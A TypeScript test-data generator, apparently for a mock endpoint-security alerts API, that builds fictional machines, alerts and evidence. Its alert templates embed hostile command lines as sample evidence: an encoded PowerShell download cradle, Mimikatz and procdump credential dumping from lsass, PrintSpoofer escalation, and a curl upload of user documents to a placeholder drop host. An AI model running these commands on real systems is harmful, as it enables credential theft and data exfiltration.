/**
 * Realistic, deterministic data generators (seeded PRNG): machines, alerts and their evidence.
 * Evidence of generated alerts is derived on demand from the alert itself, so 100,000 seeded
 * alerts cost no evidence memory.
 */
import { createHash } from 'node:crypto';
import { addMs, dotnetTicks, formatTimestamp, timestampToMs } from './clock';
import type { Alert, AlertSeverity, AlertStatus, Evidence, Machine } from './types';

// ---------------------------------------------------------------------------------------------
// PRNG

/** mulberry32: tiny, fast, good enough for test data and deterministic fault injection. */
export class Rng {
	private state: number;
	constructor(seed: number) {
		this.state = seed >>> 0;
	}
	reseed(seed: number): void {
		this.state = seed >>> 0;
	}
	next(): number {
		this.state = (this.state + 0x6d2b79f5) >>> 0;
		let t = this.state;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
	}
	int(min: number, max: number): number {
		return min + Math.floor(this.next() * (max - min + 1));
	}
	chance(p: number): boolean {
		return this.next() < p;
	}
	pick<T>(items: readonly T[]): T {
		return items[Math.floor(this.next() * items.length)];
	}
	weighted<T>(entries: ReadonlyArray<readonly [T, number]>): T {
		const total = entries.reduce((s, [, w]) => s + w, 0);
		let r = this.next() * total;
		for (const [value, w] of entries) {
			r -= w;
			if (r < 0) return value;
		}
		return entries[entries.length - 1][0];
	}
	hex(length: number): string {
		let s = '';
		while (s.length < length) s += Math.floor(this.next() * 0x100000000).toString(16).padStart(8, '0');
		return s.slice(0, length);
	}
	guid(): string {
		const h = this.hex(32);
		return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[this.int(0, 3)]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
	}
	/** A 7-digit timestamp between two epoch-ms bounds, with random sub-millisecond digits. */
	timestamp(fromMs: number, toMs: number): string {
		return formatTimestamp(fromMs + Math.floor(this.next() * Math.max(0, toMs - fromMs)), this.int(0, 9999));
	}
}

/** FNV-1a, to seed per-entity generators from ids. */
export function hash32(text: string): number {
	let h = 0x811c9dc5;
	for (let i = 0; i < text.length; i++) {
		h ^= text.charCodeAt(i);
		h = Math.imul(h, 0x01000193);
	}
	return h >>> 0;
}

const digest = (algorithm: 'sha1' | 'sha256' | 'md5', text: string): string =>
	createHash(algorithm).update(text).digest('hex');

// ---------------------------------------------------------------------------------------------
// Directory data

export const DOMAIN = 'CONTOSO';
const FIRST_NAMES = ['alex', 'maria', 'li', 'sam', 'priya', 'jonas', 'fatima', 'diego', 'emma', 'kenji', 'olivia', 'noah', 'zoe', 'omar', 'nina', 'lucas'];
const LAST_NAMES = ['wilber', 'garcia', 'chen', 'okafor', 'patel', 'berg', 'haddad', 'lopez', 'schmidt', 'tanaka', 'brown', 'muller', 'rossi', 'khan', 'novak', 'silva'];

export interface DirectoryUser {
	accountName: string;
	upn: string;
	sid: string;
	aadUserId: string;
}

export const USERS: readonly DirectoryUser[] = (() => {
	const rng = new Rng(20261128);
	return FIRST_NAMES.map((first, i) => {
		const last = LAST_NAMES[i];
		return {
			accountName: `${first}.${last}`,
			upn: `${first}.${last}@contoso.com`,
			sid: `S-1-5-21-1004336348-1177238915-682003330-${1100 + i * 7}`,
			aadUserId: rng.guid(),
		};
	});
})();

export const ANALYSTS = ['secop1@contoso.com', 'secop2@contoso.com', 'soc.tier2@contoso.com', 'ir.lead@contoso.com'];

export const RBAC_GROUPS: ReadonlyArray<{ id: number; name: string }> = [
	{ id: 41, name: 'UnassignedGroup' },
	{ id: 42, name: 'Servers' },
	{ id: 43, name: 'Finance Workstations' },
	{ id: 44, name: 'Engineering' },
	{ id: 45, name: 'Executives' },
];

const MACHINE_TAGS = ['VIP', 'Finance', 'Pilot', 'Test Lab', 'Kiosk', 'PCI', 'Remote'];

// ---------------------------------------------------------------------------------------------
// Machines

interface PlatformProfile {
	osPlatform: string;
	version: string;
	osBuild: number | null;
	osVersion: string | null;
	prefix: string;
	server: boolean;
	weight: number;
}

const PLATFORMS: readonly PlatformProfile[] = [
	{ osPlatform: 'Windows11', version: '23H2', osBuild: 22631, osVersion: '10.0.22631.4460', prefix: 'desktop', server: false, weight: 40 },
	{ osPlatform: 'Windows10', version: '22H2', osBuild: 19045, osVersion: '10.0.19045.5131', prefix: 'laptop', server: false, weight: 28 },
	{ osPlatform: 'WindowsServer2022', version: '21H2', osBuild: 20348, osVersion: '10.0.20348.2849', prefix: 'srv', server: true, weight: 10 },
	{ osPlatform: 'WindowsServer2019', version: '1809', osBuild: 17763, osVersion: '10.0.17763.6532', prefix: 'srv', server: true, weight: 8 },
	{ osPlatform: 'Linux', version: '22.04', osBuild: null, osVersion: null, prefix: 'ubuntu', server: true, weight: 9 },
	{ osPlatform: 'macOS', version: '14.6', osBuild: null, osVersion: null, prefix: 'mac', server: false, weight: 5 },
];

export function generateMachine(rng: Rng, nowMs: number, partial: Partial<Machine> = {}): Machine {
	const profile = rng.weighted(PLATFORMS.map((p) => [p, p.weight] as const));
	const host = `${profile.prefix}-${rng.hex(5)}`;
	const group = profile.server ? RBAC_GROUPS[1] : rng.pick(RBAC_GROUPS);
	const health = rng.weighted([
		['Active', 85],
		['Inactive', 8],
		['ImpairedCommunication', 4],
		['NoSensorData', 3],
	] as const);
	const lastSeenMs = health === 'Inactive' ? nowMs - rng.int(8, 40) * 86400000 : nowMs - rng.int(0, 3600000);
	const ip = `10.${rng.int(1, 250)}.${rng.int(0, 255)}.${rng.int(2, 254)}`;
	const mac = Array.from({ length: 6 }, () => rng.hex(2).toUpperCase()).join('');
	const tags = MACHINE_TAGS.filter(() => rng.chance(0.12));
	if (profile.server) tags.push('Server');
	const isWindows = profile.osPlatform.startsWith('Windows');
	const machine: Machine = {
		id: rng.hex(40),
		computerDnsName: `${host}.contoso.com`,
		firstSeen: rng.timestamp(nowMs - 400 * 86400000, nowMs - 30 * 86400000),
		lastSeen: rng.timestamp(lastSeenMs, lastSeenMs + 1),
		osPlatform: profile.osPlatform,
		osVersion: profile.osVersion,
		osProcessor: 'x64',
		version: profile.version,
		lastIpAddress: ip,
		lastExternalIpAddress: `${rng.pick([20, 40, 52, 104, 131])}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`,
		agentVersion: isWindows ? `10.8760.${profile.osBuild ?? 0}.1023` : `101.24092.${rng.int(1, 9)}`,
		osBuild: profile.osBuild,
		healthStatus: health,
		deviceValue: rng.weighted([
			['Normal', 85],
			['High', 10],
			['Low', 5],
		] as const),
		rbacGroupId: group.id,
		rbacGroupName: group.name,
		riskScore: rng.weighted([
			['None', 30],
			['Informational', 10],
			['Low', 25],
			['Medium', 25],
			['High', 10],
		] as const),
		exposureLevel: rng.weighted([
			['None', 10],
			['Low', 35],
			['Medium', 45],
			['High', 10],
		] as const),
		isAadJoined: !profile.server && isWindows,
		aadDeviceId: !profile.server && isWindows ? rng.guid() : null,
		machineTags: tags,
		defenderAvStatus: 'Updated',
		onboardingStatus: 'Onboarded',
		osArchitecture: '64-bit',
		managedBy: isWindows && !profile.server ? 'Intune' : 'MicrosoftDefenderForEndpoint',
		managedByStatus: 'Success',
		ipAddresses: [
			{ ipAddress: ip, macAddress: mac, type: 'Ethernet', operationalStatus: 'Up' },
			{ ipAddress: 'fe80::' + rng.hex(4) + ':' + rng.hex(4), macAddress: mac, type: 'Ethernet', operationalStatus: 'Up' },
		],
		vmMetadata: null,
	};
	return { ...machine, ...partial };
}

// ---------------------------------------------------------------------------------------------
// Alert templates

type EvidenceKind = 'User' | 'Process' | 'File' | 'Ip' | 'Url';

interface AlertTemplate {
	title: string;
	description: string;
	category: string;
	detectionSource: string;
	mitre: string[];
	threatFamilyName?: string;
	threatName?: string;
	process: { file: string; path: string; cmd: string; parent: string; parentPath: string };
	file?: { name: string; path: string };
	ip?: boolean;
	url?: string;
	weight: number;
}

const SYS32 = 'C:\\Windows\\System32';
const TEMP = 'C:\\Users\\{user}\\AppData\\Local\\Temp';

const TEMPLATES: readonly AlertTemplate[] = [
	{
		title: 'Suspicious PowerShell command line',
		description: 'A suspicious PowerShell activity was observed on the device. This activity is often used by attackers to download and run code.',
		category: 'Execution', detectionSource: 'WindowsDefenderAtp', mitre: ['T1059.001', 'T1105'],
		process: { file: 'powershell.exe', path: `${SYS32}\\WindowsPowerShell\\v1.0`, cmd: 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', parent: 'cmd.exe', parentPath: SYS32 },
		ip: true, weight: 10,
	},
	{
		title: 'Low-reputation arbitrary code executed by signed executable',
		description: 'Binaries signed by Microsoft can be used to run low-reputation arbitrary code. This technique hides the execution of malicious code within a trusted process.',
		category: 'Execution', detectionSource: 'WindowsDefenderAtp', mitre: ['T1064', 'T1085', 'T1220'],
		process: { file: 'rundll32.exe', path: 'C:\\Windows\\SysWOW64', cmd: 'rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe', parent: 'rundll32.exe', parentPath: SYS32 },
		file: { name: 'suspicious.dll', path: 'c:\\temp' }, weight: 6,
	},
	{
		title: "'Mimikatz' credential theft tool",
		description: 'The Mimikatz credential theft tool was detected. Attackers use it to harvest credentials from memory.',
		category: 'CredentialAccess', detectionSource: 'WindowsDefenderAv', mitre: ['T1003.001'],
		threatFamilyName: 'Mimikatz', threatName: 'HackTool:Win32/Mimikatz.D',
		process: { file: 'mimi.exe', path: TEMP, cmd: 'mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit', parent: 'cmd.exe', parentPath: SYS32 },
		file: { name: 'mimi.exe', path: TEMP }, weight: 4,
	},
	{
		title: 'Suspicious process injection observed',
		description: 'A process injected code into another process, which may indicate an attempt to evade defenses or escalate privileges.',
		category: 'DefenseEvasion', detectionSource: 'WindowsDefenderAtp', mitre: ['T1055', 'T1055.002'],
		process: { file: 'svchost.exe', path: SYS32, cmd: 'svchost.exe -k netsvcs -p', parent: 'updater.exe', parentPath: TEMP },
		file: { name: 'updater.exe', path: TEMP }, weight: 6,
	},
	{
		title: 'Ransomware behavior detected in the file system',
		description: 'A process encrypted many files and appended an unusual extension, consistent with ransomware activity.',
		category: 'Ransomware', detectionSource: 'WindowsDefenderAtp', mitre: ['T1486', 'T1490'],
		threatFamilyName: 'LockBit', threatName: 'Ransom:Win32/LockBit.AA',
		process: { file: 'svch0st.exe', path: 'C:\\ProgramData', cmd: 'svch0st.exe -path C:\\Users -pass 5f2b', parent: 'explorer.exe', parentPath: 'C:\\Windows' },
		file: { name: 'svch0st.exe', path: 'C:\\ProgramData' }, weight: 2,
	},
	{
		title: "'Emotet' malware was detected",
		description: 'Emotet is a banking trojan and loader. It was detected and the file was quarantined.',
		category: 'Malware', detectionSource: 'WindowsDefenderAv', mitre: ['T1204.002'],
		threatFamilyName: 'Emotet', threatName: 'Trojan:Win32/Emotet.RT!MTB',
		process: { file: 'winword.exe', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16', cmd: 'WINWORD.EXE /n "C:\\Users\\{user}\\Downloads\\Invoice_2291.doc"', parent: 'outlook.exe', parentPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16' },
		file: { name: 'Invoice_2291.doc', path: 'C:\\Users\\{user}\\Downloads' }, weight: 7,
	},
	{
		title: 'Connection to a custom network indicator',
		description: 'A connection was made to an IP address that matches one of your custom indicators.',
		category: 'CommandAndControl', detectionSource: 'CustomerTI', mitre: ['T1071.001'],
		process: { file: 'chrome.exe', path: 'C:\\Program Files\\Google\\Chrome\\Application', cmd: 'chrome.exe --type=utility', parent: 'explorer.exe', parentPath: 'C:\\Windows' },
		ip: true, url: 'http://cdn-update.example-bad.net/gate.php', weight: 5,
	},
	{
		title: 'Possible lateral movement using remote service creation',
		description: 'A remote service was created on this device by another device, a common lateral movement technique.',
		category: 'LateralMovement', detectionSource: 'WindowsDefenderAtp', mitre: ['T1021.002', 'T1569.002'],
		process: { file: 'services.exe', path: SYS32, cmd: 'services.exe', parent: 'wininit.exe', parentPath: SYS32 },
		file: { name: 'PSEXESVC.exe', path: 'C:\\Windows' }, ip: true, weight: 4,
	},
	{
		title: 'Anomalous scheduled task created',
		description: 'A scheduled task was created with an unusual command line, which may be used to keep persistence.',
		category: 'Persistence', detectionSource: 'WindowsDefenderAtp', mitre: ['T1053.005'],
		process: { file: 'schtasks.exe', path: SYS32, cmd: 'schtasks.exe /create /tn "OneDrive Sync" /tr "C:\\ProgramData\\sync.vbs" /sc minute /mo 15', parent: 'wscript.exe', parentPath: SYS32 },
		file: { name: 'sync.vbs', path: 'C:\\ProgramData' }, weight: 5,
	},
	{
		title: 'Suspicious account discovery',
		description: 'Commands used to enumerate domain accounts and groups were run in sequence.',
		category: 'Discovery', detectionSource: 'WindowsDefenderAtp', mitre: ['T1087.002', 'T1069.002'],
		process: { file: 'net.exe', path: SYS32, cmd: 'net.exe group "Domain Admins" /domain', parent: 'cmd.exe', parentPath: SYS32 },
		weight: 6,
	},
	{
		title: 'Possible data exfiltration over HTTP',
		description: 'A large amount of data was uploaded to an uncommon external destination.',
		category: 'Exfiltration', detectionSource: 'WindowsDefenderAtp', mitre: ['T1048.003'],
		process: { file: 'curl.exe', path: SYS32, cmd: 'curl.exe -T C:\\Users\\{user}\\Documents\\q3.zip https://files.example-drop.org/u', parent: 'cmd.exe', parentPath: SYS32 },
		ip: true, url: 'https://files.example-drop.org/u', weight: 3,
	},
	{
		title: "Potentially unwanted application 'BundleInstaller'",
		description: 'A potentially unwanted application was detected. It may show ads or install other software.',
		category: 'UnwantedSoftware', detectionSource: 'WindowsDefenderAv', mitre: [],
		threatFamilyName: 'Bundlore', threatName: 'PUA:Win32/Bundlore',
		process: { file: 'setup.exe', path: 'C:\\Users\\{user}\\Downloads', cmd: 'setup.exe /silent', parent: 'explorer.exe', parentPath: 'C:\\Windows' },
		file: { name: 'setup.exe', path: 'C:\\Users\\{user}\\Downloads' }, weight: 6,
	},
	{
		title: 'Suspicious URL opened by a user',
		description: 'Microsoft Defender SmartScreen blocked a URL that is associated with phishing.',
		category: 'InitialAccess', detectionSource: 'WindowsDefenderSmartScreen', mitre: ['T1566.002'],
		process: { file: 'msedge.exe', path: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application', cmd: 'msedge.exe --single-argument https://login-microsoftonline.example-phish.com/', parent: 'outlook.exe', parentPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16' },
		url: 'https://login-microsoftonline.example-phish.com/', weight: 5,
	},
	{
		title: 'Email messages containing malicious URL removed after delivery',
		description: 'Emails with a malicious URL were delivered and later removed by zero-hour auto purge.',
		category: 'InitialAccess', detectionSource: 'OfficeATP', mitre: ['T1566.002'],
		process: { file: 'outlook.exe', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16', cmd: 'OUTLOOK.EXE', parent: 'explorer.exe', parentPath: 'C:\\Windows' },
		url: 'https://share.example-phish.com/doc', weight: 3,
	},
	{
		title: 'Suspected overpass-the-hash attack (Kerberos)',
		description: 'An account used a Kerberos ticket obtained with a stolen NTLM hash.',
		category: 'LateralMovement', detectionSource: 'AzureATP', mitre: ['T1550.002'],
		process: { file: 'lsass.exe', path: SYS32, cmd: 'lsass.exe', parent: 'wininit.exe', parentPath: SYS32 },
		ip: true, weight: 2,
	},
	{
		title: 'Encoded PowerShell spawned by Office application',
		description: 'Custom detection rule "Office spawning encoded PowerShell" matched an event on this device.',
		category: 'Execution', detectionSource: 'CustomDetection', mitre: ['T1059.001', 'T1204.002'],
		process: { file: 'powershell.exe', path: `${SYS32}\\WindowsPowerShell\\v1.0`, cmd: 'powershell.exe -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=', parent: 'excel.exe', parentPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16' },
		weight: 3,
	},
	{
		title: 'Suspicious activity reported by Microsoft Defender Experts',
		description: 'Microsoft Defender Experts identified activity on this device that needs your attention.',
		category: 'SuspiciousActivity', detectionSource: 'ThreatExperts', mitre: ['T1078'],
		process: { file: 'cmd.exe', path: SYS32, cmd: 'cmd.exe /c whoami /all', parent: 'w3wp.exe', parentPath: 'C:\\Windows\\System32\\inetsrv' },
		weight: 2,
	},
	{
		title: 'Exploit attempt via malicious document',
		description: 'A document attempted to exploit a vulnerability in an Office component.',
		category: 'Exploit', detectionSource: 'WindowsDefenderAtp', mitre: ['T1203'],
		process: { file: 'eqnedt32.exe', path: 'C:\\Program Files\\Common Files\\microsoft shared\\EQUATION', cmd: 'EQNEDT32.EXE -Embedding', parent: 'winword.exe', parentPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16' },
		file: { name: 'Order_55812.rtf', path: 'C:\\Users\\{user}\\Downloads' }, weight: 3,
	},
	{
		title: 'Sensitive credential memory read',
		description: 'A process read the memory of the LSASS process, a behavior associated with credential dumping.',
		category: 'CredentialAccess', detectionSource: 'WindowsDefenderAtp', mitre: ['T1003.001'],
		process: { file: 'procdump64.exe', path: TEMP, cmd: 'procdump64.exe -accepteula -ma lsass.exe lsass.dmp', parent: 'cmd.exe', parentPath: SYS32 },
		file: { name: 'lsass.dmp', path: TEMP }, weight: 3,
	},
	{
		title: 'Suspicious archive creation for staging',
		description: 'Files from several user folders were compressed into a password-protected archive.',
		category: 'Collection', detectionSource: 'WindowsDefenderAtp', mitre: ['T1560.001'],
		process: { file: '7z.exe', path: 'C:\\Program Files\\7-Zip', cmd: '7z.exe a -pS3cret C:\\ProgramData\\out.7z C:\\Users\\{user}\\Documents', parent: 'cmd.exe', parentPath: SYS32 },
		file: { name: 'out.7z', path: 'C:\\ProgramData' }, weight: 3,
	},
	{
		title: 'Privilege escalation using token impersonation',
		description: 'A process duplicated a SYSTEM token to run with elevated privileges.',
		category: 'PrivilegeEscalation', detectionSource: 'WindowsDefenderAtp', mitre: ['T1134.001'],
		process: { file: 'printspoofer.exe', path: TEMP, cmd: 'printspoofer.exe -i -c cmd', parent: 'cmd.exe', parentPath: SYS32 },
		file: { name: 'printspoofer.exe', path: TEMP }, weight: 2,
	},
	{
		title: 'Automated investigation found malicious artifacts',
		description: 'An automated investigation identified malicious artifacts related to this device.',
		category: 'SuspiciousActivity', detectionSource: 'AutomatedInvestigation', mitre: [],
		process: { file: 'wscript.exe', path: SYS32, cmd: 'wscript.exe C:\\Users\\{user}\\AppData\\Roaming\\run.js', parent: 'explorer.exe', parentPath: 'C:\\Windows' },
		file: { name: 'run.js', path: 'C:\\Users\\{user}\\AppData\\Roaming' }, weight: 2,
	},
];

const TEMPLATE_BY_TITLE = new Map(TEMPLATES.map((t) => [t.title, t]));
const TEMPLATE_WEIGHTS = TEMPLATES.map((t) => [t, t.weight] as const);

const detectorIds = new Map<string, string>();

/** A stable GUID per detector (template title), memoized: seeding calls it 100,000 times. */
function detectorIdFor(title: string): string {
	let id = detectorIds.get(title);
	if (!id) {
		const h = digest('md5', title);
		id = `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
		if (detectorIds.size < 10000) detectorIds.set(title, id);
	}
	return id;
}

const userOf = (upnOrName: string | undefined): DirectoryUser =>
	USERS.find((u) => u.accountName === upnOrName || u.upn === upnOrName) ?? USERS[hash32(upnOrName ?? '') % USERS.length];

// ---------------------------------------------------------------------------------------------
// Alerts

export interface AlertGenerationContext {
	rng: Rng;
	tenantId: string;
	machines: readonly Machine[];
	/** Creation time of the alert (normalized timestamp). */
	createdAt: string;
	/** Upper bound for the generated lastUpdateTime (normalized timestamp). */
	latestUpdate: string;
	incidentId: number;
	/** Let the generator pick a realistic status (otherwise New, as a fresh alert is). */
	randomLifecycle: boolean;
}

/** Builds an alert id like the service: `da` + .NET ticks of creation + `_` + a signed 32-bit number. */
export function alertId(rng: Rng, createdAt: string): string {
	return `da${dotnetTicks(createdAt)}_${rng.int(-2147483648, 2147483647)}`;
}

export function generateAlert(ctx: AlertGenerationContext): Alert {
	const { rng } = ctx;
	const template = rng.weighted(TEMPLATE_WEIGHTS);
	const machine = ctx.machines.length > 0 ? rng.pick(ctx.machines) : null;
	const user = rng.pick(USERS);
	const createdMs = timestampToMs(ctx.createdAt);
	const firstEventTime = formatTimestamp(createdMs - rng.int(2000, 30 * 60000), rng.int(0, 9999));
	const lastEventTime = formatTimestamp(
		Math.min(createdMs - 1000, timestampToMs(firstEventTime) + rng.int(0, 5 * 60000)),
		rng.int(0, 9999),
	);
	const status: AlertStatus = ctx.randomLifecycle
		? rng.weighted([
				['New', 50],
				['InProgress', 20],
				['Resolved', 29],
				['Unknown', 1],
			] as const)
		: 'New';
	const severity: AlertSeverity = rng.weighted([
		['Informational', 15],
		['Low', 35],
		['Medium', 35],
		['High', 13],
		['UnSpecified', 2],
	] as const);
	// Updates happen within 3 days of creation but never after the allowed upper bound.
	const latestMs = timestampToMs(ctx.latestUpdate);
	const touched = status === 'InProgress' || status === 'Resolved';
	const updateMs = touched
		? Math.min(latestMs, createdMs + rng.int(60000, 3 * 86400000))
		: Math.min(latestMs, createdMs + rng.int(500, 5000));
	let lastUpdateTime = formatTimestamp(Math.max(updateMs, createdMs), rng.int(0, 9999));
	if (lastUpdateTime < ctx.createdAt) lastUpdateTime = ctx.createdAt;

	let classification: string | null = null;
	let determination: string | null = null;
	if (status === 'Resolved') {
		[classification, determination] = rng.weighted([
			[['TruePositive', template.category === 'Malware' ? 'Malware' : 'MultiStagedAttack'], 40],
			[['TruePositive', 'MaliciousUserActivity'], 5],
			[['FalsePositive', 'Clean'], 25],
			[['FalsePositive', 'InsufficientData'], 5],
			[['InformationalExpectedActivity', 'SecurityTesting'], 15],
			[['InformationalExpectedActivity', 'LineOfBusinessApplication'], 10],
		] as const);
	}
	const assignedTo = touched ? rng.pick(ANALYSTS) : null;
	const hasInvestigation = ['WindowsDefenderAtp', 'WindowsDefenderAv', 'AutomatedInvestigation'].includes(template.detectionSource) && rng.chance(0.6);
	return {
		id: alertId(rng, ctx.createdAt),
		incidentId: ctx.incidentId,
		investigationId: hasInvestigation ? rng.int(1000, 99999) : null,
		assignedTo,
		severity,
		status,
		classification,
		determination,
		investigationState: hasInvestigation
			? rng.pick(['Running', 'SuccessfullyRemediated', 'Benign', 'PendingApproval', 'PartiallyRemediated', 'Queued'])
			: rng.pick(['Queued', 'UnsupportedAlertType', 'UnsupportedOs']),
		detectionSource: template.detectionSource,
		detectorId: detectorIdFor(template.title),
		category: template.category,
		threatFamilyName: template.threatFamilyName ?? null,
		title: template.title,
		description: template.description,
		alertCreationTime: ctx.createdAt,
		firstEventTime,
		lastEventTime,
		lastUpdateTime,
		resolvedTime: status === 'Resolved' ? lastUpdateTime : null,
		machineId: machine?.id ?? null,
		computerDnsName: machine?.computerDnsName ?? null,
		rbacGroupName: machine?.rbacGroupName ?? null,
		aadTenantId: ctx.tenantId,
		threatName: template.threatName ?? null,
		mitreTechniques: template.mitre.slice(),
		relatedUser: { userName: user.accountName, domainName: DOMAIN },
		comments:
			touched && rng.chance(0.4)
				? [{ comment: status === 'Resolved' ? 'Closed after triage.' : 'Looking into this.', createdBy: assignedTo ?? ANALYSTS[0], createdTime: lastUpdateTime }]
				: [],
	};
}

/**
 * Fills the fields the caller of `alerts.create` left out (ctx.createdAt should be the partial's
 * alertCreationTime when it has one, and ctx.latestUpdate the lastUpdateTime to default to).
 */
export function completeAlert(partial: Partial<Alert>, ctx: AlertGenerationContext): Alert {
	const base = generateAlert({ ...ctx, randomLifecycle: false });
	const machine = partial.machineId ? ctx.machines.find((m) => m.id === partial.machineId) : undefined;
	const alert: Alert = {
		...base,
		...(machine ? { computerDnsName: machine.computerDnsName, rbacGroupName: machine.rbacGroupName } : {}),
		...partial,
	};
	if (partial.title && partial.detectorId === undefined) alert.detectorId = detectorIdFor(partial.title);
	// A fresh alert's lastUpdateTime is its creation time unless given.
	if (!partial.lastUpdateTime) alert.lastUpdateTime = alert.alertCreationTime;
	if (alert.status === 'Resolved' && partial.resolvedTime === undefined) alert.resolvedTime = alert.lastUpdateTime;
	return alert;
}

// ---------------------------------------------------------------------------------------------
// Evidence

const EMPTY_EVIDENCE: Omit<Evidence, 'entityType' | 'evidenceCreationTime'> = {
	sha1: null,
	sha256: null,
	fileName: null,
	filePath: null,
	processId: null,
	processCommandLine: null,
	processCreationTime: null,
	parentProcessId: null,
	parentProcessCreationTime: null,
	parentProcessFileName: null,
	parentProcessFilePath: null,
	ipAddress: null,
	url: null,
	registryKey: null,
	registryHive: null,
	registryValueType: null,
	registryValue: null,
	accountName: null,
	domainName: null,
	userSid: null,
	aadUserId: null,
	userPrincipalName: null,
	detectionStatus: null,
};

export function makeEvidence(entityType: Evidence['entityType'], evidenceCreationTime: string, fields: Partial<Evidence>): Evidence {
	return { entityType, evidenceCreationTime, ...EMPTY_EVIDENCE, ...fields };
}

/**
 * Deterministic evidence for a generated alert (same alert → same evidence): the related user,
 * the process, and the file / IP / URL the alert's template involves.
 */
export function generateEvidence(alert: Alert): Evidence[] {
	const rng = new Rng(hash32(alert.id));
	const template = TEMPLATE_BY_TITLE.get(alert.title) ?? TEMPLATES[hash32(alert.title) % TEMPLATES.length];
	const user = userOf(alert.relatedUser?.userName);
	const fill = (s: string) => s.split('{user}').join(user.accountName);
	const at = addMs(alert.alertCreationTime, rng.int(200, 1500));
	const started = alert.firstEventTime ?? alert.alertCreationTime;
	const evidence: Evidence[] = [];
	const kinds: EvidenceKind[] = ['User', 'Process'];
	if (template.file) kinds.push('File');
	if (template.ip) kinds.push('Ip');
	if (template.url) kinds.push('Url');
	for (const kind of kinds) {
		switch (kind) {
			case 'User':
				evidence.push(
					makeEvidence('User', at, {
						accountName: user.accountName,
						domainName: DOMAIN,
						userSid: user.sid,
						aadUserId: user.aadUserId,
						userPrincipalName: user.upn,
					}),
				);
				break;
			case 'Process': {
				const p = template.process;
				evidence.push(
					makeEvidence('Process', addMs(at, 180), {
						sha1: digest('sha1', p.file),
						sha256: digest('sha256', p.file),
						fileName: p.file,
						filePath: fill(p.path),
						processId: rng.int(1000, 20000),
						processCommandLine: fill(p.cmd),
						processCreationTime: started,
						parentProcessId: rng.int(500, 20000),
						parentProcessCreationTime: addMs(started, -rng.int(100, 60000)),
						parentProcessFileName: p.parent,
						parentProcessFilePath: fill(p.parentPath),
						detectionStatus: 'Detected',
					}),
				);
				break;
			}
			case 'File': {
				const f = template.file!;
				// Malicious files differ per campaign: hash the alert's incident in.
				const seed = `${f.name}:${alert.incidentId ?? alert.id}`;
				evidence.push(
					makeEvidence('File', at, {
						sha1: digest('sha1', seed),
						sha256: digest('sha256', seed),
						fileName: f.name,
						filePath: fill(f.path),
						detectionStatus: alert.detectionSource === 'WindowsDefenderAv' ? 'Prevented' : 'Detected',
					}),
				);
				break;
			}
			case 'Ip':
				evidence.push(
					makeEvidence('Ip', at, {
						ipAddress: `${rng.pick([45, 91, 185, 193, 198])}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`,
					}),
				);
				break;
			case 'Url':
				evidence.push(makeEvidence('Url', at, { url: template.url! }));
				break;
		}
	}
	return evidence;
}

/** md5 of a file name/hash seed, for the File entity of `/api/alerts/{id}/files`. */
export const md5Of = (text: string): string => digest('md5', text);
